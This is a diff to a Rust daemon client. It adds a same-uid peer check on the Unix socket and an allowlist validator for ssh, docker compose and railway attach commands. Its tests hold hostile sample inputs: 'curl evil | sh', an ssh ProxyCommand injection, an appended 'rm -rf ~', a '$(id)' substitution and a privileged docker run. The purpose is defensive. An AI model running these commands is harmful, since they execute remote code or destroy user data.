@@ -1,11 +1,15 @@
-//! HTTP/1.1 over the daemon's Unix socket. All transport code lives here, so replacing
-//! hyperlocal (quiet since 2024) is a change to this file only.
+//! HTTP/1.1 over the daemon's Unix socket. All transport code lives here.
+//!
+//! Every connection is checked before a byte is sent: the process listening at the socket
+//! must run as our own uid (SO_PEERCRED). Whoever else managed to listen there (a stale path,
+//! a shared folder) gets neither the secret values a command hands over nor the chance to
+//! make us run an attach command; [`check_attach_argv`] further accepts only the attach
+//! commands the daemon's providers build.
 
 use bytes::Bytes;
 use http_body_util::{BodyExt, Full};
 use hyper::{Method, Request, StatusCode};
-use hyper_util::client::legacy::Client;
-use hyperlocal::{UnixClientExt, UnixConnector, Uri};
+use hyper_util::rt::TokioIo;
 use megaplan_cloud_api::paths::SocketSource;
 use megaplan_cloud_api::{ErrorBody, ErrorCode};
 use serde_json::Value;
@@ -14,7 +18,6 @@ use std::path::PathBuf;
 pub struct DaemonClient {
     pub socket: PathBuf,
     pub source: SocketSource,
-    http: Client<UnixConnector, Full<Bytes>>,
 }
 
 /// What went wrong talking to the daemon.
@@ -27,11 +30,7 @@ pub enum ClientError {
 
 impl DaemonClient {
     pub fn new(socket: PathBuf, source: SocketSource) -> Self {
-        DaemonClient {
-            socket,
-            source,
-            http: Client::unix(),
-        }
+        DaemonClient { socket, source }
     }
 
     fn unreachable(&self, why: impl std::fmt::Display) -> ClientError {
@@ -55,21 +54,53 @@ impl DaemonClient {
         path_and_query: &str,
         body: Option<&Value>,
     ) -> Result<hyper::Response<hyper::body::Incoming>, ClientError> {
-        let uri: hyper::Uri = Uri::new(&self.socket, path_and_query).into();
+        let stream = tokio::net::UnixStream::connect(&self.socket)
+            .await
+            .map_err(|e| self.unreachable(e))?;
+        self.check_peer(&stream)?;
+        let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
+            .await
+            .map_err(|e| self.unreachable(error_chain(&e)))?;
+        tokio::spawn(async move {
+            // Errors surface on the request below.
+            let _ = conn.await;
+        });
         let bytes = match body {
             Some(v) => Bytes::from(serde_json::to_vec(v).unwrap_or_default()),
             None => Bytes::new(),
         };
         let req = Request::builder()
             .method(method)
-            .uri(uri)
+            .uri(path_and_query)
+            .header(hyper::header::HOST, "megaplan-cloudd")
             .header(hyper::header::CONTENT_TYPE, "application/json")
             .body(Full::new(bytes))
             .map_err(|e| self.unreachable(e))?;
-        self.http
-            .request(req)
+        sender
+            .send_request(req)
             .await
             .map_err(|e| self.unreachable(error_chain(&e)))
+    }
+
+    /// Refuse a socket served by a process of another uid, before anything is sent to it.
+    fn check_peer(&self, stream: &tokio::net::UnixStream) -> Result<(), ClientError> {
+        // SAFETY: geteuid has no preconditions and cannot fail.
+        let me = unsafe { libc::geteuid() };
+        let server = stream.peer_cred().ok().map(|c| c.uid());
+        match server_uid_problem(server, me) {
+            None => Ok(()),
+            Some(why) => Err(ClientError::Api(
+                ErrorBody::new(
+                    ErrorCode::ProtocolError,
+                    format!(
+                        "refusing to talk to {} (from {}): {why}; nothing was sent to it. Stop whatever listens there, or point --socket / $MEGAPLAN_CLOUDD_SOCKET at your own megaplan-cloudd",
+                        self.socket.display(),
+                        self.source.describe()
+                    ),
+                )
+                .with("socket", self.socket.display().to_string()),
+            )),
+        }
     }
 
     /// A request whose whole answer is one JSON document.
@@ -174,6 +205,143 @@ fn error_chain(e: &dyn std::error::Error) -> String {
     s
 }
 
+/// Why a server of uid `server` must not be trusted by a client of uid `me` (`None`: trust it).
+pub fn server_uid_problem(server: Option<u32>, me: u32) -> Option<String> {
+    match server {
+        Some(uid) if uid == me => None,
+        Some(uid) => Some(format!("it is served by uid {uid}, not by you (uid {me})")),
+        None => Some("the serving process's uid cannot be read (SO_PEERCRED)".to_string()),
+    }
+}
+
+/// Accept only the attach commands the daemon's providers build (daemon/src/provider/):
+/// - ssh: `ssh -S <ctl> -o ControlMaster=no [-F <cfg>] -p <port> [-i <key> -o IdentitiesOnly=yes]
+///   -o ConnectTimeout=10 -t <[user@]host> -- docker exec -it <container> tmux attach -t agent`
+/// - local: `docker compose -p <project> -f <file> exec agent tmux attach -t agent`, or the same
+///   with `docker-compose`;
+/// - railway: `<railway> ssh [--environment <env>] --service <service> --session <session>`
+///   (`<railway>` named `railway`, by name or path).
+///
+/// Anything else (an `-o ProxyCommand=...`, another program, extra words) is refused: the
+/// argv runs on this terminal as the user.
+pub fn check_attach_argv(argv: &[String]) -> Result<(), String> {
+    let words: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let ok = match words.split_first() {
+        Some((&"ssh", rest)) => ssh_attach_ok(rest),
+        Some((&"docker", ["compose", rest @ ..])) | Some((&"docker-compose", rest)) => {
+            compose_attach_ok(rest)
+        }
+        Some((prog, rest)) if program_named(prog, "railway") => railway_attach_ok(rest),
+        _ => false,
+    };
+    if ok {
+        Ok(())
+    } else {
+        Err(format!(
+            "the daemon asked to run an attach command of an unknown shape; refusing to run it: {}",
+            argv.iter()
+                .map(|w| format!("{w:?}"))
+                .collect::<Vec<_>>()
+                .join(" ")
+        ))
+    }
+}
+
+fn program_named(prog: &str, name: &str) -> bool {
+    prog == name || (prog.starts_with('/') && prog.rsplit('/').next() == Some(name))
+}
+
+/// A word that cannot be taken for an option and carries no shell or control characters.
+fn plain_word(w: &str) -> bool {
+    !w.is_empty()
+        && !w.starts_with('-')
+        && w.bytes()
+            .all(|b| b.is_ascii_graphic() && !b"'\"`$;&|<>\\(){}*?![]~#".contains(&b))
+}
+
+/// A Docker name as cloud.yaml allows it (`[a-z0-9][a-z0-9_.-]*`).
+fn docker_name(w: &str) -> bool {
+    w.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
+        && w.bytes()
+            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b"_.-".contains(&b))
+}
+
+fn abs_path(w: &str) -> bool {
+    w.starts_with('/') && !w.contains('\0') && !w.contains('\n')
+}
+
+fn ssh_attach_ok(rest: &[&str]) -> bool {
+    let mut i = 0;
+    let mut seen_control = false;
+    while i < rest.len() {
+        match rest[i] {
+            "-S" | "-F" | "-i" if rest.get(i + 1).is_some_and(|p| abs_path(p)) => {
+                seen_control |= rest[i] == "-S";
+                i += 2;
+            }
+            "-p" if rest
+                .get(i + 1)
+                .is_some_and(|p| p.parse::<u16>().is_ok_and(|n| n > 0)) =>
+            {
+                i += 2
+            }
+            "-o" if rest.get(i + 1).is_some_and(|o| {
+                matches!(
+                    *o,
+                    "ControlMaster=no" | "IdentitiesOnly=yes" | "ConnectTimeout=10"
+                )
+            }) =>
+            {
+                i += 2
+            }
+            "-t" => i += 1,
+            _ => break,
+        }
+    }
+    match &rest[i..] {
+        [dest, "--", remote] => seen_control && plain_word(dest) && remote_attach_ok(remote),
+        _ => false,
+    }
+}
+
+/// `docker exec -it <container> tmux attach -t agent`, the container a Docker name.
+fn remote_attach_ok(remote: &str) -> bool {
+    let w: Vec<&str> = remote.split(' ').collect();
+    matches!(
+        w.as_slice(),
+        ["docker", "exec", "-it", c, "tmux", "attach", "-t", "agent"] if docker_name(c)
+    )
+}
+
+fn compose_attach_ok(rest: &[&str]) -> bool {
+    matches!(
+        rest,
+        ["-p", project, "-f", file, "exec", "agent", "tmux", "attach", "-t", "agent"]
+            if docker_name(project) && abs_path(file)
+    )
+}
+
+fn railway_attach_ok(rest: &[&str]) -> bool {
+    let Some((&"ssh", mut flags)) = rest.split_first() else {
+        return false;
+    };
+    let mut service = false;
+    let mut session = false;
+    while let [flag, value, tail @ ..] = flags {
+        if !plain_word(value) {
+            return false;
+        }
+        match *flag {
+            "--environment" => {}
+            "--service" => service = true,
+            "--session" => session = true,
+            _ => return false,
+        }
+        flags = tail;
+    }
+    flags.is_empty() && service && session
+}
+
 /// Percent-encode a query value.
 pub fn enc(v: &str) -> String {
     let mut out = String::new();
@@ -185,4 +353,176 @@ pub fn enc(v: &str) -> String {
         }
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn v(words: &[&str]) -> Vec<String> {
+        words.iter().map(|w| w.to_string()).collect()
+    }
+
+    #[test]
+    fn attach_argv_of_the_known_shapes_is_accepted() {
+        for argv in [
+            v(&[
+                "ssh",
+                "-S",
+                "/run/user/0/megaplan-cloudd/ssh/c-1",
+                "-o",
+                "ControlMaster=no",
+                "-F",
+                "/home/op/.ssh/config",
+                "-p",
+                "2222",
+                "-i",
+                "/k/id",
+                "-o",
+                "IdentitiesOnly=yes",
+                "-o",
+                "ConnectTimeout=10",
+                "-t",
+                "root@127.0.0.1",
+                "--",
+                "docker exec -it megaplan-cloud-agent tmux attach -t agent",
+            ]),
+            v(&[
+                "ssh",
+                "-S",
+                "/s/c",
+                "-o",
+                "ControlMaster=no",
+                "-p",
+                "22",
+                "-o",
+                "ConnectTimeout=10",
+                "-t",
+                "box",
+                "--",
+                "docker exec -it a.1_b tmux attach -t agent",
+            ]),
+            v(&[
+                "docker",
+                "compose",
+                "-p",
+                "megaplan-cloud",
+                "-f",
+                "/d/docker-compose.yml",
+                "exec",
+                "agent",
+                "tmux",
+                "attach",
+                "-t",
+                "agent",
+            ]),
+            v(&[
+                "docker-compose",
+                "-p",
+                "p1",
+                "-f",
+                "/d/c.yml",
+                "exec",
+                "agent",
+                "tmux",
+                "attach",
+                "-t",
+                "agent",
+            ]),
+            v(&["railway", "ssh", "--service", "agent", "--session", "agent"]),
+            v(&[
+                "/usr/local/bin/railway",
+                "ssh",
+                "--environment",
+                "production",
+                "--service",
+                "agent",
+                "--session",
+                "s2",
+            ]),
+        ] {
+            check_attach_argv(&argv).unwrap_or_else(|e| panic!("{argv:?}: {e}"));
+        }
+    }
+
+    #[test]
+    fn attach_argv_of_any_other_shape_is_refused() {
+        for argv in [
+            v(&[]),
+            v(&["sh", "-c", "curl evil | sh"]),
+            v(&[
+                "ssh",
+                "-S",
+                "/s/c",
+                "-o",
+                "ProxyCommand=touch /tmp/pwned",
+                "-t",
+                "box",
+                "--",
+                "docker exec -it a tmux attach -t agent",
+            ]),
+            v(&[
+                "ssh",
+                "-S",
+                "/s/c",
+                "-t",
+                "box",
+                "--",
+                "docker exec -it a tmux attach -t agent; rm -rf ~",
+            ]),
+            v(&[
+                "ssh",
+                "-S",
+                "/s/c",
+                "-t",
+                "-oProxyCommand=x",
+                "--",
+                "docker exec -it a tmux attach -t agent",
+            ]),
+            v(&[
+                "ssh",
+                "-t",
+                "box",
+                "--",
+                "docker exec -it a tmux attach -t agent",
+            ]),
+            v(&[
+                "docker", "compose", "-p", "p", "-f", "/d/c.yml", "exec", "agent", "sh",
+            ]),
+            v(&["docker", "run", "--privileged", "x"]),
+            v(&["railway", "run", "--service", "agent", "--session", "agent"]),
+            v(&[
+                "railway",
+                "ssh",
+                "--service",
+                "agent",
+                "--session",
+                "agent",
+                "--",
+                "sh",
+            ]),
+            v(&["railway", "ssh", "--service", "$(id)", "--session", "agent"]),
+            v(&[
+                "/tmp/railway-evil/notrailway",
+                "ssh",
+                "--service",
+                "a",
+                "--session",
+                "b",
+            ]),
+            v(&["./railway", "ssh", "--service", "a", "--session", "b"]),
+        ] {
+            assert!(
+                check_attach_argv(&argv).is_err(),
+                "{argv:?} must be refused"
+            );
+        }
+    }
+
+    #[test]
+    fn only_a_server_of_our_own_uid_is_trusted() {
+        assert_eq!(server_uid_problem(Some(1000), 1000), None);
+        assert!(server_uid_problem(Some(0), 1000).unwrap().contains("uid 0"));
+        assert!(server_uid_problem(None, 1000).is_some());
+    }
 }
